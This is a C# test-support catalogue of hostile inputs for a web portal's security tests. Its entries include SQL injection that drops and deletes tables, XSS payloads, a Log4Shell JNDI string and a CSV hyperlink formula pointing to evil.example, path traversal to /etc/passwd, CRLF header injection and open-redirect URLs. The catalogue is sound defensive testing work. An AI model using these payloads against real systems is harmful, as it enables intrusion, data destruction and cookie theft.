using System.Text;

namespace ClaraPortal.Web.Tests.Security.Hostile;

/// <summary>
/// The catalogue of hostile values, by name. Theories carry the names (plain ASCII, so every case is listed and
/// serialised safely, a lone surrogate included) and look the value up here.
/// </summary>
public static class HostileInputs
{
    /// <summary>Free text as an attacker, a clumsy paste or a broken client sends it.</summary>
    public static IReadOnlyDictionary<string, string> Texts { get; } = new Dictionary<string, string>
    {
        ["empty"] = "",
        ["blank"] = "   \t  ",
        ["oversized-10k"] = new string('A', 10_000),
        ["oversized-1m"] = new string('x', 1_000_000),
        ["nul"] = "PO\0123",
        ["control-chars"] = "\u0001\u0002\u0007\u001b[31mred\u001b[0m",
        ["crlf-header-injection"] = "PO-1\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
        ["rtl-override"] = "INV-\u202Efdp.exe",
        ["rtl-hebrew-arabic"] = "\u200Fשלום مرحبا",
        ["zero-width"] = "P\u200BO\u200C-\u200D1\uFEFF",
        ["combining-flood"] = "e" + string.Concat(Enumerable.Repeat("\u0301", 500)),
        ["lone-surrogate"] = "PO-\uD800-1",
        ["emoji-zwj"] = "PO-👩‍👩‍👧-🏴‍☠️",
        ["fullwidth"] = "ＰＯ－１２３",
        ["script-tag"] = "<script>alert(document.cookie)</script>",
        ["img-onerror"] = "\"><img src=x onerror=alert(1)>",
        ["javascript-url"] = "javascript:alert(1)",
        ["html-entities"] = "&lt;b&gt;&#x3C;script&#x3E;",
        ["sql-drop"] = "'; DROP TABLE \"CardPurchases\"; --",
        ["sql-or-true"] = "' OR '1'='1",
        ["sql-audit-delete"] = "1; DELETE FROM \"AuditEvents\"; SELECT '",
        ["sql-like-wildcards"] = "%_%[]^",
        ["format-string"] = "{0}{1}%s%n%x",
        ["log4shell"] = "${jndi:ldap://evil.example/a}",
        ["path-traversal"] = "../../../../etc/passwd",
        ["csv-formula"] = "=HYPERLINK(\"http://evil.example\",\"x\")",
        ["json-breakout"] = "\",\"amount\":999999,\"x\":\"",
        ["card-number"] = "Paid with " + Support.TestCardNumbers.VisaGrouped,
        ["unicode-line-separator"] = "PO\u2028\u2029-1",
        ["only-zero-width"] = "\u200B\u200B\u200B",
    };

    /// <summary>Amounts past what money may be: negative, zero, huge, over-precise, the decimal type's own edges.</summary>
    public static IReadOnlyDictionary<string, decimal> Amounts { get; } = new Dictionary<string, decimal>
    {
        ["zero"] = 0m,
        ["negative"] = -1500m,
        ["negative-tiny"] = -0.01m,
        ["three-decimals"] = 100.005m,
        ["five-decimals"] = 1.00001m,
        ["twenty-eight-decimals"] = 0.0000000000000000000000000001m,
        ["above-storable"] = 1_000_000_000_000_000m,
        ["just-above-limit"] = 1_000_000_000_000.01m,
        ["long-max"] = long.MaxValue,
        ["decimal-max"] = decimal.MaxValue,
        ["decimal-min"] = decimal.MinValue,
        ["huge-and-precise"] = 79_228_162_514m + 0.123456789m,
    };

    /// <summary>"NaN" and its friends as text, where a form or an address parses a number itself.</summary>
    public static IReadOnlyList<string> AmountTexts { get; } =
        ["NaN", "Infinity", "-Infinity", "1e309", "79228162514264337593543950336", "1,000.00", "0x10", "-0", "1.0000001", "١٢٣", ""];

    /// <summary>Dates no card, report or filter can use.</summary>
    public static IReadOnlyDictionary<string, DateOnly> Dates { get; } = new Dictionary<string, DateOnly>
    {
        ["min-value"] = DateOnly.MinValue,
        ["max-value"] = DateOnly.MaxValue,
        ["year-1900"] = new(1900, 1, 1),
        ["year-9999"] = new(9999, 12, 31),
        ["ten-years-ago"] = DateOnly.FromDateTime(DateTime.UtcNow).AddYears(-10),
        ["fifty-years-ahead"] = DateOnly.FromDateTime(DateTime.UtcNow).AddYears(50),
    };

    /// <summary>Dates as text in an address.</summary>
    public static IReadOnlyList<string> DateTexts { get; } =
        ["0000-00-00", "9999-99-99", "2026-02-30", "-0001-01-01", "10000-01-01", "2026-13-01", "yesterday", "2026-12-01T00:00:00Z"];

    /// <summary>Addresses a return URL must never lead to, and some a parser must survive.</summary>
    public static IReadOnlyList<string> ReturnUrls { get; } =
    [
        "https://evil.example/", "//evil.example/", "/\\evil.example", "/\\x", "\\\\evil.example", "/%5Cevil.example",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http:evil.example", "/%0d%0aSet-Cookie:x=1",
        "/" + new string('a', 4000), "/ok?x=<script>", "%2F%2Fevil.example", "/\t/evil.example", "~/", "",
    ];

    public static TheoryData<string> TextNames() => [.. Texts.Keys];

    public static TheoryData<string> AmountNames() => [.. Amounts.Keys];

    public static TheoryData<string> DateNames() => [.. Dates.Keys];

    /// <summary>A short description for a failure message (never the megabyte itself).</summary>
    public static string Describe(string value) =>
        value.Length <= 60 ? Escape(value) : $"{Escape(value[..60])}... ({value.Length} chars)";

    private static string Escape(string value)
    {
        var builder = new StringBuilder();
        foreach (var c in value)
        {
            builder.Append(c < 32 || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString());
        }

        return builder.ToString();
    }
}
